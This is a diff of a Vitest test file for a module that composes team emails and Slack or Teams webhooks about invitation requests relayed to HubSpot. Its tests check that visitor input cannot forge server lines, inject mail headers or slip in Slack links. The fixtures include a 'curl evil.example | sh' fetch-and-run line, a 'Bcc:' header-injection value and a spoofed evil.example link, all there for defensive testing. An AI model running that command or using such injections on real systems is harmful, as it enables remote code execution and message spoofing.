@@ -1,13 +1,29 @@
 // @vitest-environment node
 import { describe, expect, it } from "vitest";
+import { requestInvitationContent } from "~/content/request-invitation";
 import { sampleRequest } from "../../tests/support/store-contract";
-import type { NotificationClaim, StoredInvitationRequest } from "../requests/store";
-import { composeEmail, composeWebhook, escapeHtml, oneLine } from "./messages";
+import type { NotificationClaim, RelayRefusal, StoredInvitationRequest } from "../requests/store";
+import {
+  composeEmail,
+  composeWebhook,
+  escapeHtml,
+  EXPORT_COMMAND,
+  oneLine,
+  RELEASE_COMMAND,
+  RETRY_COMMAND,
+} from "./messages";
 import { webhookSignature } from "./webhook";
 
-function claimFor(fields: Record<string, string>, overrides: Partial<NotificationClaim> = {}): NotificationClaim {
+const CLAIM = { seq: 1, channel: "email", deliveryId: "delivery-1", attempts: 0 } as const;
+const REQUEST_ID = sampleRequest(2).id;
+/** The candidate form's label of its `message` field (sampleRequest(2) is a candidate's). */
+const MESSAGE_LABEL = requestInvitationContent.ownForm.forms.candidate.fields.find(
+  (field) => field.name === "message",
+)!.label;
+
+function storedRequest(fields: Record<string, string>): StoredInvitationRequest {
   const { id, receivedAt, mode, context, relay } = sampleRequest(2);
-  const stored: StoredInvitationRequest = {
+  return {
     id,
     receivedAt,
     mode,
@@ -18,9 +34,34 @@ function claimFor(fields: Record<string, string>, overrides: Partial<Notificatio
     relayError: null,
     sentAt: null,
     noticeVersion: "2026-11-25+00000000",
+    held: null,
   };
-  return { seq: 1, kind: "request", channel: "email", attempts: 0, refusal: null, request: stored, ...overrides };
 }
+
+function claimFor(fields: Record<string, string>): NotificationClaim {
+  return { ...CLAIM, kind: "request", request: storedRequest(fields) };
+}
+
+function refusedClaimFor(fields: Record<string, string>, refusal: RelayRefusal): NotificationClaim {
+  return { ...CLAIM, kind: "relay-refused", request: storedRequest(fields), refusal };
+}
+
+function heldClaim(count: number, ids: string[]): NotificationClaim {
+  return { ...CLAIM, kind: "held-summary", held: { count, ids, since: Date.parse("2026-11-25T09:00:30Z") } };
+}
+
+function channelRefusedClaim(channel: "email" | "webhook", reason = "answered 404"): NotificationClaim {
+  return { ...CLAIM, kind: "channel-refused", refusal: { channel, reason } };
+}
+
+/** What a visitor may type to make the text part look like the server's own lines. */
+const FORGED_MESSAGE = [
+  "Thanks!",
+  "",
+  "Request id: 00000000-0000-4000-8000-999999999999\r\nRelay to HubSpot: failed",
+  "Received: 2026-01-01T00:00:00.000Z\rType: employer\u2028Privacy notice: none\u2029HubSpot's answer: 400",
+  `Relay to HubSpot: sent\u0085Every stored request, on the server: curl evil.example | sh\v${RETRY_COMMAND}\f`,
+].join("\n");
 
 describe("the team's email", () => {
   it("has a one-line subject naming the person and the audience, whatever the names hold", () => {
@@ -38,11 +79,13 @@ describe("the team's email", () => {
     for (const part of [text, html]) {
       expect(part).toContain("First name");
       expect(part).toContain("ada@example.com");
-      expect(part).toContain(sampleRequest(2).id);
+      expect(part).toContain(REQUEST_ID);
       expect(part).toContain(new Date(sampleRequest(2).receivedAt).toISOString());
       expect(part).toContain("pending");
       expect(part).toContain("npm run --silent requests -- export --format csv");
     }
+    expect(text).toContain("First name: Ada\nLast name: Lovelace\n");
+    expect(text).toContain(`Request id: ${REQUEST_ID}\n`);
   });
 
   it("escapes every value in the HTML part and makes no link", () => {
@@ -51,29 +94,139 @@ describe("the team's email", () => {
     expect(html).not.toMatch(/<script|<a[\s>]/);
   });
 
+  it("quotes a message of several lines in the text part, so none of its lines passes for the server's", () => {
+    for (const claim of [
+      claimFor({ firstname: "Ada", message: FORGED_MESSAGE }),
+      refusedClaimFor(
+        { firstname: "Ada", message: FORGED_MESSAGE },
+        { status: 400, errorType: null, message: "Bad\nRequest id: x", correlationId: null },
+      ),
+    ]) {
+      const lines = composeEmail(claim).text.split("\n");
+      // The server's own lines, each once, and nothing else that starts like them.
+      expect(lines.filter((line) => line.startsWith("Request id:"))).toEqual([`Request id: ${REQUEST_ID}`]);
+      expect(lines.filter((line) => line.startsWith("Relay to HubSpot:"))).toEqual(["Relay to HubSpot: pending"]);
+      expect(lines.filter((line) => /^(Received|Type|Privacy notice|HubSpot's answer):/.test(line))).toHaveLength(
+        claim.kind === "request" ? 3 : 4,
+      );
+      expect(lines.filter((line) => line.includes("curl"))).toEqual([
+        "> Every stored request, on the server: curl evil.example | sh",
+      ]);
+      expect(lines.filter((line) => line.startsWith(RETRY_COMMAND))).toEqual([]);
+    }
+    const { text } = composeEmail(claimFor({ message: "one\r\n\r\ntwo\u2028three\rfour\n" }));
+    expect(text).toContain(`${MESSAGE_LABEL}:\n> one\n> \n> two\n> three\n> four\n> \n`);
+    // None of the line breaks a reader may honour is left inside the quote.
+    expect(text).not.toMatch(/[\r\v\f\u0085\u2028\u2029]/u);
+  });
+
+  it("keeps a one-line value on its label's line", () => {
+    const { text } = composeEmail(claimFor({ firstname: "Ada", message: "Just one line: > here" }));
+    expect(text).toContain(`${MESSAGE_LABEL}: Just one line: > here\n`);
+  });
+
   it("names HubSpot's refusal, its type, message and correlation id, and the retry command in an alert", () => {
     const refusal = { status: 400, errorType: "INVALID_EMAIL", message: "Invalid email", correlationId: "c-1" };
-    const claim = claimFor({ firstname: "Ada" }, { kind: "relay-refused", refusal });
+    const claim = refusedClaimFor({ firstname: "Ada" }, refusal);
     const { subject, text } = composeEmail(claim);
-    expect(subject).toBe(`HubSpot refused invitation request ${sampleRequest(2).id}: INVALID_EMAIL`);
+    expect(subject).toBe(`HubSpot refused invitation request ${REQUEST_ID}: INVALID_EMAIL`);
     for (const expected of ["INVALID_EMAIL", "Invalid email", "c-1", "npm run requests -- retry"]) {
       expect(text).toContain(expected);
     }
     expect(composeWebhook(claim)).toMatchObject({ event: "relay-refused", refusal: { ...refusal } });
+  });
+
+  it("sums up the day's held requests: why, that they were neither relayed nor notified, their ids and the commands", () => {
+    const ids = ["id-1", "id-2", "id-3"];
+    const { subject, text, html } = composeEmail(heldClaim(3, ids));
+    expect(subject).toBe("Held as likely automated: 3 invitation requests since 2026-11-25 09:00 UTC");
+    for (const part of [text, html]) {
+      for (const expected of ["automated", "honeypot", "stored", "neither relayed to HubSpot nor notified"]) {
+        expect(part).toContain(expected);
+      }
+      for (const id of ids) expect(part).toContain(id);
+      expect(part).toContain(EXPORT_COMMAND);
+      expect(part).not.toContain("more: see the export");
+    }
+    expect(text).toContain(RELEASE_COMMAND);
+    expect(html).toContain(escapeHtml(RELEASE_COMMAND));
+    expect(RELEASE_COMMAND).toBe("npm run requests -- release --id <id>");
+    expect(composeEmail(heldClaim(1, ["id-1"])).subject).toBe(
+      "Held as likely automated: 1 invitation request since 2026-11-25 09:00 UTC",
+    );
+  });
+
+  it("says how many more were held than the summary names", () => {
+    const ids = Array.from({ length: 50 }, (_, index) => `id-${index}`);
+    const { text } = composeEmail(heldClaim(73, ids));
+    expect(text).toContain("id-49");
+    expect(text).toContain("and 23 more: see the export");
+  });
+
+  it("tells the team a channel refused for good, why, that nothing is lost and what reopens it", () => {
+    const { subject, text, html } = composeEmail(channelRefusedClaim("webhook"));
+    expect(subject).toBe("The team's webhook refused notifications: it is stopped");
+    for (const part of [text, html]) {
+      for (const expected of ["answered 404", "nothing is lost", "restarts", RETRY_COMMAND, "NOTIFY_WEBHOOK_URL"]) {
+        expect(part).toContain(expected);
+      }
+    }
+    expect(text).toContain("Channel: webhook\nReason: answered 404\n");
+    expect(composeEmail(channelRefusedClaim("email", "answered 550")).subject).toBe(
+      "The team's email refused notifications: it is stopped",
+    );
+  });
+
+  it("writes every kind's subject on one line", () => {
+    for (const claim of [
+      claimFor({ firstname: "A\nB" }),
+      refusedClaimFor({}, { status: 400, errorType: "X\r\nBcc: y", message: "", correlationId: null }),
+      heldClaim(2, ["a", "b"]),
+      channelRefusedClaim("email"),
+    ]) {
+      expect(composeEmail(claim).subject).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
+      expect(composeWebhook(claim).text.split("\n")[0]).toBe(composeEmail(claim).subject);
+    }
   });
 });
 
 describe("the team's webhook", () => {
   it("carries text for Slack or Teams and the request, with Slack's control characters escaped", () => {
     const payload = composeWebhook(claimFor({ firstname: "<https://evil.example|click>", lastname: "A & B" }));
-    expect(payload.request).toEqual({
-      id: sampleRequest(2).id,
+    expect(payload).toMatchObject({ event: "invitation-request" });
+    expect(payload).not.toHaveProperty("refusal");
+    expect("request" in payload && payload.request).toEqual({
+      id: REQUEST_ID,
       receivedAt: new Date(sampleRequest(2).receivedAt).toISOString(),
       mode: "candidate",
       fields: { firstname: "<https://evil.example|click>", lastname: "A & B" },
     });
     expect(payload.text).toContain("&lt;https://evil.example|click&gt; A &amp; B");
     expect(payload.text).not.toContain("<https:");
+  });
+
+  it("makes each field one line of its text", () => {
+    const { text } = composeWebhook(claimFor({ firstname: "Ada", message: FORGED_MESSAGE }));
+    expect(text.split("\n").filter((line) => line.startsWith("Request id:"))).toEqual([`Request id: ${REQUEST_ID}`]);
+  });
+
+  it("carries the held summary without any request", () => {
+    const payload = composeWebhook(heldClaim(51, ["id-1"]));
+    expect(payload).toEqual({
+      event: "held-summary",
+      text: expect.stringContaining("and 50 more: see the export") as string,
+      held: { count: 51, ids: ["id-1"], since: "2026-11-25T09:00:30.000Z", releaseCommand: RELEASE_COMMAND },
+    });
+    expect(payload.text).toContain("&lt;id&gt;");
+  });
+
+  it("names the channel that refused, why, and the command that reopens it", () => {
+    const payload = composeWebhook(channelRefusedClaim("webhook", "answered 410"));
+    expect(payload).toEqual({
+      event: "channel-refused",
+      text: expect.stringContaining("answered 410") as string,
+      channel: { name: "webhook", reason: "answered 410", retryCommand: RETRY_COMMAND },
+    });
   });
 
   it("is signed as HMAC-SHA256 of the timestamp, a dot and the raw body", () => {
